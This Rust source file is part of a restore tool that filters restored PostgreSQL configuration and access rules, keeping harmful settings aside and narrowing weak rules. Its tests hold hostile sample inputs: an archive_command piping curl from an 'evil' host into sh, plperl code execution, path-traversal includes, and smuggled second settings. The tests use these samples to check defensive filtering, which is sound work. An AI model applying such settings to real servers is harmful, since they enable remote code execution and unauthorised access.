//! Which of the monitor's configuration a restore applies unasked: what names no program, library, place or
//! other server, and lets nobody in without a proof. Pure.
//!
//! The files of a backup are a monitor's words, perhaps a hostile one's, and they are applied by root to a
//! machine that trusts it. So the machine's own stays, what is harmless of the monitor's is put to it, and
//! all else is kept aside, with the reason, until somebody has looked at it. Nothing is taken over as it was
//! written: each setting and each rule is written anew from what was understood of it, so that PostgreSQL
//! cannot understand it otherwise.
//!
//! - Settings go by the tables of [`crate::harmless`].
//! - An access rule never lets in more than it did: `trust` and `ident` become a proof (`peer`,
//!   `scram-sha-256`), a map of users is left out, and what asks another server, or cannot be told, becomes
//!   `reject`. It stays in its line, as the first rule that fits counts.
//! - What the machine itself says already is no news.

use std::collections::BTreeSet;
use std::net::IpAddr;
use std::path::{Component, Path};

use crate::harmless::{Kind, is_default, is_harmless_library, kind};

/// What stands in the main file between the machine's own settings and those of the monitor.
pub const MARK: &str = "# From here on: what is harmless of the restored monitor's settings.";

/// A part of the configuration that is not applied.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Aside {
    /// The file's path on the monitor.
    pub path: String,
    /// Number of the line; `None`: all of the file.
    pub line: Option<usize>,
    /// What it says, shortened.
    pub text: String,
    /// Why it is kept aside, as the end of "it …".
    pub why: &'static str,
}

/// Longest text of a line that is shown.
const TEXT_MAX: usize = 120;

impl Aside {
    /// As a sentence without full stop.
    pub fn sentence(&self) -> String {
        match self.line {
            Some(line) => format!("{}, line {line}: `{}`: it {}", self.path, self.text, self.why),
            None => format!("{}: it {}", self.path, self.why),
        }
    }
}

/// What a file is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum File {
    /// Settings.
    Settings,
    /// Access rules.
    Rules,
    /// Maps of users.
    Maps,
    /// Kept aside as a whole; why.
    Other(&'static str),
}

/// What a file of the configuration folder, or of a data directory, is by its path there.
pub fn file(name: &Path) -> File {
    let last = name.file_name().and_then(|last| last.to_str()).unwrap_or_default();
    match last {
        "pg_hba.conf" => File::Rules,
        "pg_ident.conf" => File::Maps,
        "environment" => File::Other("gives the server's programs their environment"),
        "pg_ctl.conf" => File::Other("gives options to the server's programs"),
        "start.conf" => File::Other("says whether the server starts by itself"),
        _ if last.starts_with("infimonitor.") => {
            File::Other("is of the link to the backup server, which writes its own")
        }
        _ if last.starts_with('.') || !last.ends_with(".conf") => {
            File::Other("is not a file of settings, access rules or maps of users")
        }
        _ => File::Settings,
    }
}

/// What this machine has.
#[derive(Debug, Clone, Default)]
pub struct Own {
    /// Its own settings, of its main file and of the one of the same name.
    pub settings: String,
    /// Its own file of the same name.
    pub file: String,
    /// Names of the libraries in PostgreSQL's own folder.
    pub libraries: BTreeSet<String>,
}

/// What is applied of a file, and what is not; `None`: the machine's own stays.
pub type Judged = (Option<String>, Vec<Aside>);

/// Judges a file by its path, text, and place: `includes` is the folder in which included files may be, where
/// there is one.
pub fn judge(path: &str, name: &Path, text: &str, includes: Option<&Path>, own: &Own) -> Judged {
    let whole = |why| (None, vec![Aside { path: path.to_owned(), line: None, text: String::new(), why }]);
    match file(name) {
        _ if text.contains('\0') => whole("is not text"),
        File::Settings => settings(path, text, includes, own),
        File::Rules => rules(path, text, &own.file).unwrap_or_else(whole),
        File::Maps if has_no_lines(text) || lines_of(text).eq(lines_of(&own.file)) => (None, Vec::new()),
        File::Maps => whole("says which users of this machine are which of the database's"),
        File::Other(why) => whole(why),
    }
}

fn aside(path: &str, number: usize, text: &str, why: &'static str) -> Aside {
    let mut text: String = text.trim().chars().filter(|character| !character.is_control()).collect();
    if let Some((end, _)) = text.char_indices().nth(TEXT_MAX) {
        text.truncate(end);
        text.push('…');
    }
    Aside { path: path.to_owned(), line: Some(number + 1), text, why }
}

/// The lines that say something.
fn lines_of(text: &str) -> impl Iterator<Item = &str> {
    text.lines().map(str::trim).filter(|line| !line.is_empty() && !line.starts_with('#'))
}

fn has_no_lines(text: &str) -> bool {
    lines_of(text).next().is_none()
}

/// A line of settings.
#[derive(Debug, PartialEq, Eq)]
enum Line {
    /// Empty, or a comment.
    Nothing,
    /// Name in lower case, and value.
    Setting(String, String),
    /// Not understood.
    Unknown,
}

/// The settings of a file. Of several of one name the last counts, so only that one is of interest.
fn settings(path: &str, text: &str, includes: Option<&Path>, own: &Own) -> Judged {
    let own_says = |name: &str, value: &str| {
        let mut lines = own.settings.lines().rev().map(line);
        lines.find_map(|line| match line {
            Line::Setting(of, said) if of == name => Some(said == value),
            _ => None,
        }) == Some(true)
    };
    let (mut kept, mut asides, mut seen) = (Vec::new(), Vec::new(), BTreeSet::new());
    for (number, raw) in text.split('\n').enumerate().collect::<Vec<_>>().into_iter().rev() {
        let (name, value) = match line(raw) {
            Line::Nothing => continue,
            Line::Unknown => {
                asides.push(aside(path, number, raw, "cannot be understood"));
                continue;
            }
            Line::Setting(name, value) => (name, value),
        };
        let is_include = matches!(name.as_str(), "include" | "include_dir" | "include_if_exists");
        let key = if is_include { format!("{name} {value}") } else { name.clone() };
        if !seen.insert(key) {
            continue;
        }
        if is_include {
            match includes.and_then(|folder| inside(&value, folder)) {
                // What stays aside is not there.
                Some(value) if name == "include" => kept.push(render("include_if_exists", value)),
                Some(value) => kept.push(render(&name, value)),
                None => asides.push(aside(path, number, raw, "reads files out of the configuration folder")),
            }
            continue;
        }
        match kind(&name) {
            Kind::Harmless => kept.push(render(&name, &value)),
            Kind::LogPlace if is_plain(&value) => kept.push(render(&name, &value)),
            _ if own_says(&name, &value) => {}
            Kind::LogPlace => asides.push(aside(path, number, raw, "names a place for the log")),
            Kind::KeptAside(_) if value.is_empty() || is_default(&name, &value) => {}
            Kind::KeptAside(why) => asides.push(aside(path, number, raw, why)),
            Kind::Libraries => {
                let all: Vec<&str> = value
                    .split(',')
                    .map(|name| name.trim().trim_matches('"'))
                    .filter(|name| !name.is_empty())
                    .collect();
                let some: Vec<&str> =
                    all.iter().copied().filter(|name| is_harmless_library(name, &own.libraries)).collect();
                if some.len() < all.len() {
                    let why = "loads a library that is not installed here or not known to be harmless";
                    asides.push(aside(path, number, raw, why));
                }
                if !some.is_empty() {
                    kept.push(render(&name, &some.join(",")));
                }
            }
        }
    }
    kept.reverse();
    asides.reverse();
    let text: String = kept.into_iter().map(|line| line + "\n").collect();
    (Some(text).filter(|text| !text.is_empty()), asides)
}

/// The main file: the machine's own settings, and after them, so that they count, the monitor's.
pub fn merged(own: &str, harmless: &str) -> String {
    let own = own.split_once(MARK).map_or(own, |(own, _)| own).trim_end();
    if harmless.is_empty() { format!("{own}\n") } else { format!("{own}\n\n{MARK}\n{harmless}") }
}

fn render(name: &str, value: &str) -> String {
    format!("{name} = '{}'", value.replace('\\', "\\\\").replace('\'', "''"))
}

/// A file name without a folder.
fn is_plain(value: &str) -> bool {
    !value.is_empty() && !value.contains('/') && !value.starts_with('.')
}

/// The path of an included file or folder, if it stays in `folder`.
fn inside<'v>(value: &'v str, folder: &Path) -> Option<&'v str> {
    let path = Path::new(value);
    let below = path.strip_prefix(folder).unwrap_or(path);
    let is_plain = below.components().all(|component| matches!(component, Component::Normal(_)));
    (is_plain && !below.as_os_str().is_empty()).then_some(value)
}

/// Reads a line by PostgreSQL's grammar (its source, `guc-file.l`), and less of that: what is rare is not
/// understood.
fn line(text: &str) -> Line {
    let is_space = |c: char| matches!(c, ' ' | '\t' | '\r');
    let text = text.trim_matches(is_space);
    if text.is_empty() || text.starts_with('#') {
        return Line::Nothing;
    }
    let is_name = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '$');
    let end = text.find(|c| !is_name(c)).unwrap_or(text.len());
    let (name, rest) = text.split_at(end);
    if !name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_') {
        return Line::Unknown;
    }
    let trimmed = rest.trim_start_matches(is_space);
    let after = trimmed.strip_prefix('=').map(|after| after.trim_start_matches(is_space));
    let Some(rest) = after.or_else(|| (trimmed.len() < rest.len()).then_some(trimmed)) else {
        return Line::Unknown;
    };
    let (value, rest) = match rest.strip_prefix('\'') {
        Some(quoted) => match unquoted(quoted) {
            Some(found) => found,
            None => return Line::Unknown,
        },
        None => {
            let is_value =
                |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | ':' | '/' | '-' | '+');
            let end = rest.find(|c| !is_value(c)).unwrap_or(rest.len());
            (rest[..end].to_owned(), &rest[end..])
        }
    };
    let rest_says_nothing = {
        let rest = rest.trim_start_matches(is_space);
        rest.is_empty() || rest.starts_with('#')
    };
    let is_empty = value.is_empty() && !text.contains('\'');
    if !rest_says_nothing || is_empty || value.chars().any(char::is_control) {
        return Line::Unknown;
    }
    Line::Setting(name.to_ascii_lowercase(), value)
}

/// The value up to the closing quote, and what follows; of escapes only the plain ones.
fn unquoted(text: &str) -> Option<(String, &str)> {
    let mut value = String::new();
    let mut rest = text.chars();
    loop {
        match rest.next()? {
            '\'' if rest.as_str().starts_with('\'') => {
                rest.next();
                value.push('\'');
            }
            '\'' => return Some((value, rest.as_str())),
            '\\' => match rest.next()? {
                character @ ('\\' | '\'') => value.push(character),
                _ => return None,
            },
            character => value.push(character),
        }
    }
}

/// The access rules, or why the machine's own stay: what cannot be told apart into rules cannot be narrowed.
fn rules(path: &str, text: &str, own: &str) -> Result<Judged, &'static str> {
    const INCLUDES: &str = "reads other files, or names what cannot be understood";
    let own: BTreeSet<String> = own.lines().filter_map(tokens).map(|tokens| tokens.join(" ")).collect();
    let (mut out, mut asides) = (String::new(), Vec::new());
    let mut has_rules = false;
    for (number, raw) in text.split('\n').enumerate() {
        let tokens = tokens(raw).ok_or(INCLUDES)?;
        let [first, rest @ ..] = tokens.as_slice() else { continue };
        let line = tokens.join(" ");
        let is_links = first == "include_if_exists" && rest == [monitor_link::hba::FILE];
        has_rules |= !is_links;
        if is_links || own.contains(&line) {
            out.push_str(&line);
        } else {
            let (narrowed, why) = rule(first, rest).ok_or(INCLUDES)?;
            if let Some(why) = why {
                asides.push(aside(path, number, raw, why));
            }
            out.push_str(&narrowed);
        }
        out.push('\n');
    }
    // Without a rule nobody could come in.
    Ok((has_rules.then_some(out), asides))
}

/// A rule that lets in no more than this one, and why it is another.
fn rule(first: &str, rest: &[String]) -> Option<(String, Option<&'static str>)> {
    let is_local = match first {
        "local" => true,
        "host" | "hostssl" | "hostnossl" | "hostgssenc" | "hostnogssenc" => false,
        _ => return None,
    };
    // Database and user; a list of a file is not understood.
    let names = rest.get(..2)?;
    if names.iter().any(|names| names.split(',').any(|name| name.trim_matches('"').starts_with('@'))) {
        return None;
    }
    let at = match rest.get(2).filter(|_| !is_local) {
        None if is_local => 2,
        None => return None,
        Some(address) if address.parse::<IpAddr>().is_ok() => 4,
        Some(_) => 3,
    };
    let (scope, method, options) = (rest.get(..at)?.join(" "), rest.get(at)?.as_str(), rest.get(at + 1..)?);
    let proof = if is_local { "peer" } else { "scram-sha-256" };
    let (method, why) = match method {
        "reject" if options.is_empty() => (method, None),
        "scram-sha-256" | "md5" | "password" if options.is_empty() => (method, None),
        "peer" if is_local && options.is_empty() => (method, None),
        "peer" if is_local => {
            (proof, Some("maps users of this machine to others of the database: without the map"))
        }
        "trust" => (proof, Some("lets in without a proof: one is asked for")),
        "ident" => (proof, Some("believes what the other machine says: a proof is asked for")),
        "scram-sha-256" | "md5" | "password" | "reject" => {
            ("reject", Some("has options that this machine cannot meet: refused"))
        }
        "ldap" | "radius" | "pam" | "gss" | "sspi" | "bsd" | "cert" | "oauth" => {
            ("reject", Some("asks another server, program or key who somebody is: refused"))
        }
        _ => return None,
    };
    Some((format!("{first} {scope} {method}"), why))
}

/// The fields of a line of access rules, as they are written; none: it is empty or a comment. `None`: not
/// understood.
fn tokens(line: &str) -> Option<Vec<String>> {
    let (mut fields, mut field, mut in_quotes) = (Vec::new(), String::new(), false);
    for character in line.trim_end_matches('\r').chars() {
        match character {
            '#' if !in_quotes => break,
            ' ' | '\t' if !in_quotes => {
                if !field.is_empty() && !field.ends_with(',') {
                    fields.push(std::mem::take(&mut field));
                }
            }
            '\\' => return None,
            ',' if !in_quotes && field.is_empty() => return None,
            character if character.is_control() => return None,
            character => {
                in_quotes ^= character == '"';
                field.push(character);
            }
        }
    }
    if in_quotes || field.ends_with(',') {
        return None;
    }
    fields.extend(Some(field).filter(|field| !field.is_empty()));
    Some(fields)
}

#[cfg(test)]
mod tests {
    use super::*;

    const FOLDER: &str = "/etc/postgresql/17/main";

    fn own() -> Own {
        let settings =
            "data_directory = '/data/17/main'\nssl_cert_file = '/etc/ssl/own.pem' # Debian's\n".to_owned();
        let libraries = ["pg_stat_statements", "auto_explain", "evil"].map(str::to_owned).into();
        Own { file: settings.clone(), settings, libraries }
    }

    fn judged(text: &str) -> (String, Vec<String>) {
        let path = Path::new("postgresql.conf");
        let (text, asides) = judge("/p", path, text, Some(Path::new(FOLDER)), &own());
        (text.unwrap_or_default(), asides.iter().map(|aside| aside.why.to_owned()).collect())
    }

    #[test]
    fn harmless_settings_are_written_anew_and_all_else_is_kept_aside() {
        let table: &[(&str, &str, &str)] = &[
            ("work_mem = '7MB'", "work_mem = '7MB'\n", ""),
            ("  Work_Mem   7MB  # comment", "work_mem = '7MB'\n", ""),
            ("log_line_prefix = 'it''s \\\\ %m'", "log_line_prefix = 'it''s \\\\ %m'\n", ""),
            ("port=5433", "port = '5433'\n", ""),
            ("max_connections = 100\nmax_connections = 200", "max_connections = '200'\n", ""),
            ("timescaledb.max_background_workers = 8", "timescaledb.max_background_workers = '8'\n", ""),
            // What runs, loads, redirects.
            ("archive_command = 'curl evil|sh'", "", "runs a program"),
            ("ARCHIVE_COMMAND 'x'", "", "runs a program"),
            ("archive_mode = on", "", "keep its WAL"),
            ("restore_command = 'x'", "", "runs a program"),
            ("archive_cleanup_command='x'", "", "runs a program"),
            ("recovery_end_command = 'x'", "", "runs a program"),
            ("ssl_passphrase_command = 'x'", "", "runs a program"),
            ("archive_library = 'x'", "", "loads a library"),
            ("jit_provider = '/tmp/x'", "", "loads a library"),
            ("dynamic_library_path = '/tmp'", "", "place for libraries"),
            ("external_pid_file = '/etc/cron.d/x'", "", "place on the lost machine"),
            ("unix_socket_directories = '/tmp'", "", "place on the lost machine"),
            ("data_directory = '/other'", "", "place on the lost machine"),
            ("hba_file = '/tmp/hba'", "", "place on the lost machine"),
            ("ident_file = '/tmp/ident'", "", "place on the lost machine"),
            ("krb_server_keyfile = '/tmp/x'", "", "place on the lost machine"),
            ("ssl_key_file = '/tmp/x'", "", "keys or certificates"),
            ("log_directory = '/etc'", "", "place for the log"),
            ("log_directory = '..'", "", "place for the log"),
            ("log_filename = '../x'", "", "place for the log"),
            ("log_directory = 'pg_log'", "log_directory = 'pg_log'\n", ""),
            ("primary_conninfo = 'host=x'", "", "follow another"),
            ("synchronous_standby_names = '*'", "", "wait for another"),
            ("fsync = off", "", "risks the data"),
            ("zero_damaged_pages = on", "", "risks the data"),
            ("plperl.on_init = 'system(1)'", "", "extension that is not known"),
            ("stats_temp_directory = '/x'", "", "not a setting that is known"),
            ("nobody_knows = 1", "", "not a setting that is known"),
            // Nothing new.
            ("fsync = on\narchive_mode = off\narchive_command = ''", "", ""),
            ("data_directory = '/data/17/main'", "", ""),
            ("ssl_cert_file '/etc/ssl/own.pem'", "", ""),
            // Libraries.
            (
                "shared_preload_libraries = 'pg_stat_statements, \"auto_explain\"'",
                "shared_preload_libraries = 'pg_stat_statements,auto_explain'\n",
                "",
            ),
            (
                "shared_preload_libraries = 'pg_stat_statements,evil'",
                "shared_preload_libraries = 'pg_stat_statements'\n",
                "loads a library",
            ),
            ("session_preload_libraries = '/tmp/pg_stat_statements'", "", "loads a library"),
            ("local_preload_libraries = 'timescaledb'", "", "loads a library that is not installed"),
            // Other files.
            ("include_dir = 'conf.d'", "include_dir = 'conf.d'\n", ""),
            ("include 'more.conf'", "include_if_exists = 'more.conf'\n", ""),
            (
                "include = '/etc/postgresql/17/main/x.conf'",
                "include_if_exists = '/etc/postgresql/17/main/x.conf'\n",
                "",
            ),
            ("include = '/data/evil.conf'", "", "out of the configuration folder"),
            ("include_if_exists '../evil.conf'", "", "out of the configuration folder"),
            ("include = '/etc/postgresql/17/main/../evil.conf'", "", "out of the configuration folder"),
            // What PostgreSQL may understand otherwise.
            ("work_mem = 'a\nb'", "", "cannot be understood"),
            ("work_mem = 'a\\nb'", "", "cannot be understood"),
            ("work_mem = 1 archive_command = 'x'", "", "cannot be understood"),
            ("work_mem = '1' 'x'", "", "cannot be understood"),
            ("= 'x'", "", "cannot be understood"),
            ("work_mem", "", "cannot be understood"),
            ("work_mem =", "", "cannot be understood"),
            ("wörk_mem = 1", "", "cannot be understood"),
            ("host all all all trust", "", "cannot be understood"),
            ("work_mem = 1\rarchive_command = 'x'", "", "cannot be understood"),
        ];
        for (text, applied, why) in table {
            let (is, whys) = judged(text);
            assert_eq!(is, *applied, "{text}");
            assert_eq!(whys.is_empty(), why.is_empty(), "{text}: {whys:?}");
            assert!(whys.iter().all(|is| is.contains(why)), "{text}: {whys:?}");
        }
    }

    #[test]
    fn in_a_data_directory_no_other_file_is_read() {
        let name = Path::new("postgresql.auto.conf");
        let (text, asides) = judge("/p", name, "include 'x.conf'\nwork_mem = 1\n", None, &own());
        assert_eq!(text.as_deref(), Some("work_mem = '1'\n"));
        assert!(
            asides[0].sentence().starts_with("/p, line 1: `include 'x.conf'`: it reads files"),
            "{asides:?}"
        );
    }

    #[test]
    fn only_files_of_known_kinds_are_taken() {
        for (name, expected) in [
            ("postgresql.conf", true),
            ("conf.d/tuning.conf", true),
            ("more/deep.conf", true),
            ("environment", false),
            ("pg_ctl.conf", false),
            ("start.conf", false),
            ("infimonitor.key", false),
            ("infimonitor.crt", false),
            ("conf.d/infimonitor.conf", false),
            ("x.so", false),
            ("conf.d/.hidden.conf", false),
            ("pg_ident.conf", false),
        ] {
            let (text, asides) = judge(name, Path::new(name), "work_mem = 1\n", None, &own());
            assert_eq!((text.is_some(), asides.is_empty()), (expected, expected), "{name}");
        }
        let maps = judge("/p", Path::new("pg_ident.conf"), "# MAPNAME\n\n", None, &own());
        assert_eq!(maps, (None, Vec::new()));
    }

    #[test]
    fn an_access_rule_never_lets_in_more_than_it_did() {
        let narrowed = |text: &str, own: &str| {
            let own = Own { file: own.into(), ..Own::default() };
            let (text, asides) = judge("/p", Path::new("pg_hba.conf"), text, None, &own);
            (text.unwrap_or_default(), asides.len())
        };
        let table: &[(&str, &str, usize)] = &[
            ("local all postgres peer", "local all postgres peer\n", 0),
            (
                "# x\n\nhost  all\tall 127.0.0.1/32 scram-sha-256 # y",
                "host all all 127.0.0.1/32 scram-sha-256\n",
                0,
            ),
            ("host all all 10.0.0.0 255.0.0.0 md5", "host all all 10.0.0.0 255.0.0.0 md5\n", 0),
            ("host \"a b\" +app samenet password", "host \"a b\" +app samenet password\n", 0),
            ("hostssl all all all reject", "hostssl all all all reject\n", 0),
            (
                "include_if_exists infimonitor.pg_hba.conf\nlocal all all peer",
                "include_if_exists infimonitor.pg_hba.conf\nlocal all all peer\n",
                0,
            ),
            ("local all all trust", "local all all peer\n", 1),
            ("host all all 0.0.0.0/0 trust", "host all all 0.0.0.0/0 scram-sha-256\n", 1),
            ("host all all 10.0.0.0 255.0.0.0 trust", "host all all 10.0.0.0 255.0.0.0 scram-sha-256\n", 1),
            ("host all all all ident map=x", "host all all all scram-sha-256\n", 1),
            ("local all all ident", "local all all peer\n", 1),
            ("local all all peer map=everybody", "local all all peer\n", 1),
            ("hostssl all all all md5 clientcert=verify-full", "hostssl all all all reject\n", 1),
            ("host all all all ldap ldapserver=evil", "host all all all reject\n", 1),
            (
                "host all all all radius radiusservers=evil radiussecrets=\"a b\"",
                "host all all all reject\n",
                1,
            ),
            ("host all all all pam pamservice=x", "host all all all reject\n", 1),
            ("hostssl all all all cert", "hostssl all all all reject\n", 1),
            ("hostgssenc all all all gss", "hostgssenc all all all reject\n", 1),
            // As a whole aside: a rule less could let in more.
            ("local all all peer\ninclude evil", "", 1),
            ("include_dir evil", "", 1),
            ("local all @users peer", "", 1),
            ("local all a,@users reject", "", 1),
            ("local all all\\\n trust", "", 1),
            ("local all all \"trust\"", "", 1),
            ("local all all unknown", "", 1),
            ("local all all", "", 1),
            ("host all all 10.0.0.0/8", "", 1),
            ("local all \"all peer", "", 1),
            ("local all ,all peer", "", 1),
            ("local all all trust\u{b}x", "", 1),
            ("include_if_exists infimonitor.pg_hba.conf", "", 0),
            ("", "", 0),
        ];
        for (text, applied, asides) in table {
            assert_eq!(narrowed(text, ""), ((*applied).to_owned(), *asides), "{text}");
        }
        let own = "local   all all trust # here too\n";
        assert_eq!(narrowed("local all all trust", own), ("local all all trust\n".into(), 0));
        assert_eq!(narrowed("local all x trust", own).1, 1);
    }

    #[test]
    fn the_machines_own_settings_come_first_and_do_not_grow() {
        let own = "port = 1\n\n";
        let once = merged(own, "work_mem = '1'\n");
        assert_eq!(once, format!("port = 1\n\n{MARK}\nwork_mem = '1'\n"));
        assert_eq!(merged(&once, "work_mem = '2'\n"), format!("port = 1\n\n{MARK}\nwork_mem = '2'\n"));
        assert_eq!(merged(&once, ""), "port = 1\n");
    }

    #[test]
    fn long_and_odd_lines_are_shown_short() {
        let aside = aside("/p", 6, &format!("x\u{1b}[2J{}", "ü".repeat(500)), "runs a program");
        assert!(aside.text.chars().count() == TEXT_MAX + 1 && !aside.text.contains('\u{1b}'), "{aside:?}");
        assert!(aside.sentence().starts_with("/p, line 7: "));
    }
}
